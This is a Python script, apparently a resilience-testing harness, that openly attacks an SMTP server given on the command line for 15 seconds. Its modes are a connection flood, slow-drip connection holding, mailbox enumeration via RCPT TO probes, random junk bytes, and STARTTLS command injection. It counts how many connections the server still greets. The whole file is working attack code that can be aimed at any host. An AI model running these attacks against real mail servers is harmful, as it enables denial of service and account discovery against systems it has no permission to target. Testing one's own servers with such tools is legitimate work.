"""Attacks a mail server for a bounded time: attack.py KIND HOST PORT.

Kinds: flood (connections that close at once), slow (connections that dribble octets), scan
(names tried to find mailboxes), junk (octets that are no SMTP), inject (commands behind
STARTTLS). Prints how many connections were served.
"""

import random
import socket
import sys
import time

KIND, HOST, PORT = sys.argv[1], sys.argv[2], int(sys.argv[3])
SECONDS = 15
UNTIL = time.monotonic() + SECONDS


def connect():
    """A connection and its greeting; None where there is none."""
    try:
        peer = socket.create_connection((HOST, PORT), timeout=2)
        return peer, peer.recv(512)
    except OSError:
        return None


def rounds(count):
    for number in range(count):
        if time.monotonic() > UNTIL:
            return
        yield number


def converse(count, say):
    served = 0
    for number in rounds(count):
        found = connect()
        if not found:
            continue
        peer, greeting = found
        served += greeting.startswith(b"220")
        try:
            say(peer, number)
        except OSError:
            pass
        peer.close()
    return served


def scan(peer, number):
    peer.sendall(b"EHLO attacker.example\r\nMAIL FROM:<x@example.net>\r\n")
    for name in range(20):
        peer.sendall(b"RCPT TO:<user%d-%d@clinic.example>\r\n" % (number, name))
        if not peer.recv(2048):
            return


def junk(peer, _):
    peer.sendall(random.randbytes(16000).replace(b"\n", b"\r\n"))
    peer.recv(2048)


def inject(peer, _):
    peer.sendall(b"EHLO attacker.example\r\n")
    peer.recv(2048)
    peer.sendall(b"STARTTLS\r\nMAIL FROM:<x@example.net>\r\n")
    peer.recv(2048)


def slow():
    peers = [found[0] for found in (connect() for _ in rounds(60)) if found]
    while time.monotonic() < UNTIL and peers:
        for peer in list(peers):
            try:
                peer.sendall(b"E")
            except OSError:
                peers.remove(peer)
        time.sleep(0.5)
    return len(peers)


random.seed(7)
if KIND == "flood":
    print(converse(300, lambda peer, _: None))
elif KIND == "slow":
    print(slow())
else:
    print(converse(30, {"scan": scan, "junk": junk, "inject": inject}[KIND]))
